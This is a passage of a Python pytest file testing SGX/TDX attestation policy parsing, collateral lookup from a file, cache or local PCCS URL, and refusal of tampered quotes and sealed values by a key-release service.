            f"kms_ca_pubkey = ['3030300b06092b0601040182370a0103210{'0' + '11' * 32}']",
            "policy.tdx.kms_ca_pubkey[0]: is not a public key in DER (SubjectPublicKeyInfo)",
        ),
        (  # a KMS's secp256k1 signing key (compressed) where its root CA's DER key belongs
            f"[tdx]\nmr_td = ['{TDX_MR_TD}']\nrt_mr3 = ['{'00' * 48}']\nkms_ca_pubkey = ['{'02' * 33}']",
            "policy.tdx.kms_ca_pubkey[0]: is not a public key in DER (SubjectPublicKeyInfo)",
        ),
        ("[tcb]\nallow_debug = false", "policy: allows no enclave"),
        ("[sgx", "policy: is not TOML"),
        (f"[sgx]\nmr_enclave = ['{SGX_MR_ENCLAVE}']\nmin_isv_svn = -1", "policy.sgx.min_isv_svn"),
        (f"[sgx]\nmr_signer = ['{SGX_MR_SIGNER}']", "policy.sgx.isv_prod_id: is needed when only mr_signer"),
        (
            f"[sgx]\nmr_enclave = ['{SGX_MR_ENCLAVE}']\n[tcb]\nallowed_statuses = ['Revoked']",
            "policy.tcb.allowed_statuses",
        ),
    ],
)
def test_a_policy_that_does_not_parse_is_refused_naming_the_field(text: str, says: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        parse_policy(text)
    assert str(refused.value).startswith(says), str(refused.value)


def test_a_missing_policy_file_is_named(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match=r"^policy: .*nope\.toml does not exist"):
        load_policy(tmp_path / "nope.toml")
    (tmp_path / "prod.toml").write_text(SGX_POLICY)
    assert load_policy(tmp_path / "prod.toml").sgx.mr_enclave == [SGX_MR_ENCLAVE]


def test_collateral_is_taken_from_a_file_a_cache_or_a_pccs(samples: Path, tmp_path: Path) -> None:
    quote = (samples / "sgx_quote").read_bytes()
    with pytest.raises(AttestationRefused, match=r"^collateral: .* cannot be used"):
        collateral_for(quote, tmp_path / "missing.json")
    with pytest.raises(AttestationRefused, match=r"^collateral: cannot be fetched from http://127\.0\.0\.1:9"):
        collateral_for(quote, pccs_url="http://127.0.0.1:9", cache=tmp_path / "cache")
    cache = tmp_path / "cache"
    cache.mkdir()
    shutil.copy(samples / "sgx_quote_collateral.json", cache / cache_name(quote, "http://127.0.0.1:9"))
    assert cache_name(quote, "http://127.0.0.1:9").endswith("-SGX-00A067110000.json")  # per PCCS, TEE, FMSPC
    cached = collateral_for(quote, pccs_url="http://127.0.0.1:9", cache=cache)  # no request: it is cached
    assert verify(quote, cached, parse_policy(SGX_POLICY), _report_data(quote), now=PINNED).tee == "sgx"


def test_a_quote_whose_certificates_do_not_parse_is_refused_before_its_collateral_is_sought(
    samples: Path, tmp_path: Path
) -> None:
    """Five bytes of its certificates changed: the quote still parses, its platform (FMSPC) is read from them
    to find its collateral, and that read's ValueError was the key-release service's 500."""
    damaged = bytearray((samples / "sgx_quote").read_bytes())
    for at in (516, 768, 965, 3109, 3682):
        damaged[at] ^= 0xA5
    with pytest.raises(AttestationRefused, match=r"^quote: names no platform: Failed to get FMSPC"):
        collateral_for(bytes(damaged), pccs_url="http://127.0.0.1:9", cache=tmp_path)


def test_a_sealed_value_opens_only_with_its_data_key_at_its_place() -> None:
    key, where = new_data_key(), "ScoreFlow/12/score/3/predictions"
    value = b"\x80\x04patients and their scores" * 1000
    sealed = seal(value, key, where)
    assert is_sealed(sealed) and value not in sealed and sealed != seal(value, key, where)  # fresh keys
    assert unseal(sealed, key, where) == value
    with pytest.raises(SealedError, match="released only to an attested enclave"):
        unseal(sealed, None, where)
    with pytest.raises(SealedError, match="this data key does not open it"):
        unseal(sealed, new_data_key(), where)
    with pytest.raises(SealedError, match="this data key does not open it"):
        unseal(sealed, key, "ScoreFlow/12/score/3/other")  # moved to another artifact
    altered = bytearray(sealed)
    altered[-1] ^= 1
    with pytest.raises(SealedError, match="the sealed value was altered"):
        unseal(bytes(altered), key, where)
    with pytest.raises(SealedError, match="is not a sealed value"):
        unseal(value, key, where)
